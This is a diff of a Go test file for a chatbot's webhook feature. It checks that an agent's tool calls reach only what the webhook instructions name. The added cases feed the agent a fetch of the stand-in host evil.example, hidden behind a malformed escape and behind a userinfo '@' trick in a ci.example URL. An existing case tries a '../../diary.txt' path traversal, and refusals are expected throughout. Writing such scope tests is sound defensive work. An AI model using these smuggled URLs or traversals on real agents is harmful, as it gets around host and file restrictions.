@@ -475,13 +475,17 @@ func TestAWebhookReachesOnlyWhatItsInstructionsName(t *testing.T) {
 			{"", "write_file", `{"path":"log.txt","content":"broken"}`},
 			{"", "read_file", `{"path":"log.txt"}`},
 			{"", "read_file", `{"path":"../../diary.txt"}`},
+			{"mcp_everyday", "everyday_fetch", `{"url":"https://evil.example/4711%zz"}`},
+			{"", "everyday_fetch", `{"url":"https://ci.example x@evil.example\\4711"}`},
 		}, noCard},
 	}
+	w.withEverydayServer(t)
 	address := freeAddress(t)
 	w.env["ONECLAW_LISTEN"], w.env["ONECLAW_PUBLIC_URL"] = address, hookAddress
 	bot := w.run()
+	bot.out.await(t, `"group":"mcp_everyday"`)
 	who := w.person("Owner")
-	links := hookLinks.FindStringSubmatch(w.ask(bot, who, "/hook new ci Tell me what broke; the log is at "+build, nil))
+	links := hookLinks.FindStringSubmatch(w.ask(bot, who, "/hook new ci Tell me what broke; the log is at "+build+" and of a step at https://ci.example/steps/%s", nil))
 	if links == nil {
 		t.Fatal("no webhook")
 	}
@@ -496,7 +500,7 @@ func TestAWebhookReachesOnlyWhatItsInstructionsName(t *testing.T) {
 	w.shownTo(bot, who, "Done: what broke")
 	mu.Lock()
 	defer mu.Unlock()
-	for n, want := range map[string]string{"0": "A page about prices", "1": "do not name the host", "2": "the owner of the webhook keeps", "3": "the owner of the webhook keeps", "5": "broken"} {
+	for n, want := range map[string]string{"0": "A page about prices", "1": "do not name the host", "2": "the owner of the webhook keeps", "3": "the owner of the webhook keeps", "5": "broken", "8": "do not name the host of https://evil.example/4711%zz", "9": "do not name the host of https://ci.example x@evil.example"} {
 		if !strings.Contains(results[n], want) {
 			t.Errorf("call %s: %q, want %q", n, results[n], want)
 		}
